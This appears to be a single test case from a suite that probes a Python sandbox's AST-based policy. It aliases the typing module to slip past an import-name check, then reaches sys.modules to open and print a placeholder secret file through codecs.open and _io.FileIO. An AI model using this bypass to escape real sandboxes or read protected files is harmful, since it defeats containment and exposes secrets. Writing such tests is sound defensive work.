# id: in13-codecs-open-alias
# category: introspection
# effect: codecs.open / io.FileIO reached through typing.sys.modules
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
print(mods["codecs"].open("{SECRET}").read())
print(mods["_io"].FileIO("{SECRET}").read())
